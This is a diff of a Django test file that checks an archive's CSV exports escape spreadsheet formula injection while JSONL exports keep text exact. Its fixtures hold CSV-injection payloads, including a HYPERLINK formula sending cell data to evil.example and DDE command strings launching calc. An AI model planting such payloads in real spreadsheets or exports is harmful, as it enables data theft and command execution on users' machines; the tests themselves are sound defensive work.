@@ -6,13 +6,14 @@ import csv
 import io
 import json
 
+import pytest
 from django.db import connection
 from django.http import StreamingHttpResponse
 from django.test.utils import CaptureQueriesContext
 
-from archive.exports import CSV_COLUMNS
+from archive.exports import CSV_COLUMNS, spreadsheet_safe
+from archive.importing import IMPORTED, import_paths
 from archive.models import Article, Paragraph, Source
-from archive.services import IMPORTED, import_paths
 
 
 def streamed(response) -> bytes:
@@ -40,7 +41,8 @@ def test_csv_export_of_every_article_opens_with_chinese_intact(client, seeded):
         assert row["title"] == article.title
         assert row["source_file"] == article.source_file
         assert row["content_hash"] == article.content_hash
-        assert row["published"] == article.published_iso
+        # A partial date "--03-04" starts like a formula (Excel reads it as -(-3-4)): it is quoted.
+        assert row["published"] == spreadsheet_safe(article.published_iso)
         assert row["language"] == article.language
         assert row["url"] == f"http://testserver/articles/{article.pk}/"
         body = [p.text for p in article.paragraphs.order_by("position") if not p.is_boilerplate]
@@ -56,6 +58,70 @@ def test_csv_export_of_a_search_and_of_a_filtered_list(client, seeded):
     assert {row["language"] for row in english} == {"en"}
     assert client.get("/export/search.csv").status_code == 400
     assert client.get("/export/articles.csv", {"date_from": "March"}).status_code == 400
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1+1 口罩",
+    "-2+3 口罩",
+    "@SUM(1+1)*cmd|' /C calc'!A0 口罩",
+    "\t=1+1 口罩",
+    "\r=1+1 口罩",
+]
+
+
+@pytest.fixture
+def hostile(db) -> Article:
+    """An article whose title, source and paragraphs a spreadsheet would run as formulas."""
+    from archive.search import queue
+
+    source = Source.objects.create(name="=cmd|' /C calc'!A0", domain="evil.example")
+    article = Article.objects.create(
+        title=HOSTILE[0], source=source, source_file="-evil.txt", content_hash="a" * 64, language="zh-Hans"
+    )
+    for position, text in enumerate(HOSTILE[1:], start=1):
+        Paragraph.objects.create(article=article, position=position, text=text, language="zh-Hans")
+    with queue.writer_lock(blocking=True):
+        queue.rebuild_locked()
+    return article
+
+
+@pytest.mark.parametrize(("url", "query"), [("/export/articles.csv", {}), ("/export/search.csv", {"q": "口罩"})])
+def test_a_hostile_article_exports_as_text_not_formulas(client, hostile, url, query):
+    (row,) = read_csv(streamed(client.get(url, query)))
+    for column, value in row.items():
+        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
+    assert row["title"] == "'" + HOSTILE[0]
+    assert row["source"] == "'=cmd|' /C calc'!A0"
+    assert row["source_file"] == "'-evil.txt"
+    # The text column starts with the first paragraph; the others follow inside the same cell.
+    assert row["paragraphs_text"] == "'" + "\n\n".join(HOSTILE[1:])
+
+
+def test_jsonl_keeps_hostile_text_exact(client, hostile):
+    (line,) = streamed(client.get("/export/articles.jsonl")).decode().splitlines()
+    exported = json.loads(line)
+    assert exported["title"] == HOSTILE[0]
+    assert [p["text"] for p in exported["paragraphs"]] == HOSTILE[1:]
+
+
+@pytest.mark.parametrize(
+    ("value", "safe"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@A1", "'@A1"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("复工复产", "复工复产"),
+        ("a=1", "a=1"),
+        ("", ""),
+        (42, 42),
+    ],
+)
+def test_spreadsheet_safe(value, safe):
+    assert spreadsheet_safe(value) == safe
 
 
 def test_jsonl_lines_have_the_shape_of_the_article_api(client, seeded):
